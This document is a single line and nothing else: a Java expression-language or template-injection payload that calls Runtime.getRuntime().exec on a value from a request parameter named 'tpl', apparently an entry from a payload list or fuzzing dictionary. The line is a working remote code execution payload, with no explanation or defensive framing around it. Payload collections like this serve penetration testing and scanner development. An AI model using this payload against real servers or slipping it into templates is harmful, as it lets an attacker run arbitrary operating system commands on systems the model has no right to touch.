${Runtime.getRuntime().exec(param.tpl)}
